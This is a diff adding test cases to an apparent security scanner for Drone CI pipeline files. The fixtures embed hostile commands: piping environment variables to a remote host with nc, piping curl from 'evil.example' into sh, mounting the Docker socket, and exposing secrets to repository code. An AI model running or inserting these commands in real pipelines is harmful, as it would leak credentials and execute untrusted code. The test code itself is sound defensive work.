@@ -60,6 +60,51 @@ describe.skipIf(!hasGit)('--diff', () => {
     expect(baseline?.known).toBeGreaterThan(3);
   });
 
+  const step = (name: string, lines: readonly string[]): string =>
+    [`  - name: ${name}`, '    image: alpine@sha256:aa', ...lines.map((line) => `    ${line}`), ''].join('\n');
+  const commands = (...each: string[]): readonly string[] => ['commands:', ...each.map((one) => `  - ${one}`)];
+  const socket = 'volumes:\n  - name: sock\n    host: {path: /var/run/docker.sock}\n';
+  const mounts = ['commands: [make]', 'volumes:', '  - {name: sock, path: /var/run/docker.sock}'];
+
+  it.each([
+    [
+      'credentials-sent-out',
+      [step('a', commands('env | nc 203.0.113.7 4444'))],
+      step('a', commands('env | nc 203.0.113.7 4444', 'env | nc 198.51.100.9 4444')),
+    ],
+    [
+      'remote-script',
+      [step('a', commands('curl https://x.example/a | sh'))],
+      step('a', commands('curl https://x.example/a | sh', 'curl http://evil.example/a | sh')),
+    ],
+    [
+      'remote-script',
+      [step('a', commands('curl https://x.example/a | sh'))],
+      step('a', commands('curl https://x.example/a | sh', 'curl https://x.example/a | sh')),
+    ],
+    ['docker-socket-volume', [step('a', mounts), socket], [step('a', mounts), step('evil', mounts), socket]],
+    [
+      'secret-with-repository-code',
+      [step('a', ['environment: {A: {from_secret: a}}', ...commands('make')])],
+      step('a', ['environment: {A: {from_secret: a}, PROD: {from_secret: root}}', ...commands('make')]),
+    ],
+    [
+      'secret-with-repository-code',
+      [step('a', ['environment: {A: {from_secret: a}}', ...commands('make')])],
+      step('a', ['environment: {A: {from_secret: root}}', ...commands('make')]),
+    ],
+  ])('does not know a further place of a known %s, and knows what a mended one leaves', (rule, before, after) => {
+    const event = (text: string): string => text.replace('[push]', '[push, pull_request]');
+    const now = [after].flat();
+    const folder = repository({ '.drone.yml': event(pipeline(before)) });
+    commitFiles(folder, { '.drone.yml': event(pipeline(now)) });
+    expect(diff(folder, 'main').findings).toContain(`.drone.yml ${rule}`);
+    if (rule === 'secret-with-repository-code') return;
+    git(folder, ['branch', 'both']);
+    commitFiles(folder, { '.drone.yml': event(pipeline(before)) });
+    expect(diff(folder, 'both').findings).toEqual([]);
+  });
+
   it('compares installations, not lines: a change of variables opens a finding of the compose file', () => {
     const folder = repository({ 'docker-compose.yml': compose, 'server.env': closed });
     commitFiles(folder, { 'server.env': open });
